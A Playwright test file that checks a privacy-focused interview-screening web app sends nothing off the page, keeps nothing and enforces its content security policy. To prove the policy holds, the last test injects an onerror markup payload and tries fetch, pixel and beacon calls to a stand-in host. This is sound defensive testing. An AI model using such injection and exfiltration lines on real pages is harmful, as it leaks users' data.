// Nothing leaves the page: no request after the start, nothing stored, nothing in the console, the address or the
// history, and a policy that is in force.
import { expect, test } from "@playwright/test";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { serve } from "../../scripts/serve.mjs";
import { FILE_NAME, Worker } from "./worker.mjs";

/** The example settings, with files that anyone can read turned on. */
const dir = mkdtempSync(join(tmpdir(), "settings-"));
const deployment = join(dir, "deployment.json");
const example = JSON.parse(readFileSync(new URL("../../docs/deployment.example.json", import.meta.url), "utf8"));
writeFileSync(deployment, JSON.stringify({ ...example, plainFiles: true }));
test.afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** What the browser reports for the vault's start. The service worker answers it from what is kept: the server sees nothing. */
const FROM_WHAT_IS_KEPT = /\/vault(-[0-9a-f]+(_bg)?)?\.(js|wasm)$/;

/** The release on a server of this test’s own, which writes down every request. */
async function watched(use) {
  const asked = [];
  const server = await serve({ port: 0, prefix: "/a/place/", deployment, onRequest: (path) => asked.push(path) });
  try {
    await use(server.url, asked);
  } finally {
    await server.close();
  }
}

test("a first visit in English asks for no other language", async ({ page }) => {
  const asked = [];
  page.on("request", (it) => asked.push(new URL(it.url()).pathname));
  const worker = new Worker(page);
  await worker.opens();
  await worker.sealed();
  expect(asked.length).toBeGreaterThan(3);
  expect(asked.filter((it) => it.includes("words-"))).toEqual([]);
});

test("a whole screening with every file saved makes no request and leaves nothing behind", async ({ page, context }) => {
  test.slow();
  await watched(async (address, asked) => {
    const worker = new Worker(page);
    const requests = [];
    // Of the whole browser context, so that a worker or a second page could not hide one.
    context.on("request", (it) => requests.push(`${it.method()} ${it.url()}`));
    page.on("websocket", (it) => requests.push(`websocket ${it.url()}`));
    await worker.opens(address);
    await worker.sealed();
    const [title, url, entries] = await page.evaluate(() => [document.title, location.href, history.length]);
    expect(asked.length).toBeGreaterThan(3);
    const served = [...new Set(requests.map((it) => new URL(it.split(" ")[1]).origin))];
    expect(served, "even the start comes from one place").toEqual([new URL(address).origin]);
    requests.length = 0;
    asked.length = 0;

    await worker.isTrained();
    await worker.hasConsent();
    await worker.opensPage("Name and sex");
    await worker.types("What name would you like me to use?", "Quietmarker");
    await worker.answers("How they are treated", { "How do people treat you there? Has any of this happened?": "Pay was held back" });
    await page.getByLabel("Help: Treatment", { exact: true }).click();
    await worker.walksTo("What does this add up to?");
    await worker.walksTo("What describes their situation?");
    await worker.presses("Accept the suggestions");
    await worker.walksTo("Which help, and from whom?");
    await worker.presses("Accept the suggestions");
    await worker.agreesToShare("IOM", ["Name and birth", "What happened"]);
    await worker.goesTo(/^Summary/);
    await worker.opensSummaryFor("IOM");
    const saved = [await worker.saves("Save as text"), await worker.saves("Save the note"), await worker.savesRecord()];
    expect(saved[0].text).toContain("Quietmarker");
    for (const { name } of saved) expect(name).toMatch(FILE_NAME);
    // The vault comes from what is kept on the device too.
    await worker.presses("Seal with a passphrase");
    await expect(page.getByRole("list", { name: "The passphrase of this file", exact: true })).toBeVisible({ timeout: 60_000 });
    const sealed = await worker.saves("Save the file");
    expect(sealed.name).toMatch(FILE_NAME);
    expect(sealed.bytes.includes("Quietmarker")).toBe(false);
    await worker.presses("Close and forget the passphrase");
    await worker.continues();
    await worker.at("Before you go on");
    await page.waitForTimeout(500);

    expect(requests.filter((it) => !it.startsWith("GET blob:") && !FROM_WHAT_IS_KEPT.test(it))).toEqual([]);
    expect(asked).toEqual([]);
    expect(worker.noise).toEqual([]);
    await worker.keepsNothing();
    expect(await page.evaluate(() => [document.title, location.href])).toEqual([title, url]);
    expect(page.url()).toBe(address);
    expect((await page.evaluate(() => history.length)) - entries).toBeLessThanOrEqual(1);
    expect(await page.evaluate(() => JSON.stringify(history.state))).toBe("null");
    // A reload erases it, as the start screen says.
    page.on("dialog", (it) => it.accept());
    await page.reload();
    await worker.at("Prepare a first conversation");
    expect(await page.content()).not.toContain("Quietmarker");
    await worker.keepsNothing();
  });
});

test("on a later visit, protecting, saving and opening what is kept makes no request either", async ({ page, context }) => {
  test.slow();
  await watched(async (address, asked) => {
    const first = new Worker(page);
    await first.opens(address);
    await first.sealed();
    await page.close();
    const worker = new Worker(await context.newPage());
    await worker.opens(address);
    await worker.sealed();
    const requests = [];
    context.on("request", (it) => requests.push(it.url()));
    asked.length = 0;
    await worker.chooses("What may you do?", "I am trained to interview");
    await worker.continues();
    const secret = await worker.protects();
    await worker.continues();
    await worker.types("Your job", "Jobmarker");
    await worker.isKept();
    // The browser looks for a newer version by itself some seconds after the start, and finds the answer that it has.
    await worker.page.waitForTimeout(3000);
    expect(asked).toEqual([]);
    expect(requests.filter((it) => !it.startsWith("blob:") && !FROM_WHAT_IS_KEPT.test(it))).toEqual([]);
    expect(worker.noise).toEqual([]);
    await worker.page.close();

    const again = new Worker(await context.newPage());
    await again.page.goto(address);
    await again.sealed();
    asked.length = 0;
    await again.unlocks(secret);
    await expect(again.page.getByLabel("Your job")).toHaveValue("Jobmarker");
    expect(asked).toEqual([]);
    expect(again.noise).toEqual([]);
  });
});

test("the start adds at most one entry to the history", async ({ page }) => {
  await page.goto("about:blank");
  const before = await page.evaluate(() => history.length);
  const worker = new Worker(page);
  await worker.opens();
  await worker.isTrained();
  await worker.hasConsent();
  // One for the address itself, one more for the Back button.
  expect((await page.evaluate(() => history.length)) - before).toBeLessThanOrEqual(2);
});

test("the policy is in force: no foreign script, style, request, frame or form", async ({ page }) => {
  const worker = new Worker(page);
  await worker.opens();
  // The browser announces a refused request too, and then says that it was blocked.
  const begun = [];
  const blocked = [];
  page.on("request", (it) => begun.push(it.url()));
  page.on("requestfailed", (it) => blocked.push(`${it.url()} ${it.failure().errorText}`));
  const found = await page.evaluate(async () => {
    const refused = [];
    document.addEventListener("securitypolicyviolation", (it) => refused.push(it.effectiveDirective));
    const attempt = async (act) => { try { await act(); } catch { /* refused */ } };
    await attempt(() => {
      const script = document.createElement("script");
      script.append(document.createTextNode("window.ran = 'script'"));
      document.body.append(script);
    });
    await attempt(() => {
      const box = document.createElement("div");
      box.innerHTML = "<img src=x onerror=\"window.ran = 'markup'\">";
      document.body.append(box);
    });
    await attempt(() => {
      const style = document.createElement("style");
      style.append(document.createTextNode("body { opacity: 0.5 }"));
      document.head.append(style);
    });
    await attempt(() => fetch("https://elsewhere.example/?q=answer"));
    await attempt(() => {
      const image = new Image();
      image.src = "https://elsewhere.example/pixel.png?q=answer";
      document.body.append(image);
    });
    await attempt(() => navigator.sendBeacon("https://elsewhere.example/beacon", "answer"));
    // No frame can even be made: an empty one would have globals of its own, which no policy covers.
    const frames = ["iframe", "object", "embed"].filter((it) => { try { return document.createElement(it); } catch { return false; } });
    await new Promise((done) => setTimeout(done, 300));
    return { refused: [...new Set(refused)].sort(), ran: window.ran, opacity: getComputedStyle(document.body).opacity, frames };
  });
  expect(found.ran).toBeUndefined();
  expect(found.opacity).toBe("1");
  expect(found.frames).toEqual([]);
  expect(found.refused).toEqual(expect.arrayContaining(["connect-src", "img-src", "style-src-elem"]));
  expect(found.refused.some((it) => it === "script-src-elem" || it === "require-trusted-types-for")).toBe(true);
  const outside = begun.filter((it) => it.startsWith("http"));
  expect(blocked.filter((it) => it.startsWith("http") && it.endsWith(" csp")).map((it) => it.split(" ")[0]), "nothing reached the network").toEqual(outside);
  // A refused attempt must not break the page.
  await worker.chooses("What may you do?", "I only observe");
  await worker.continues();
  await worker.readsAboutLeaving();
  await worker.at("This place");
});
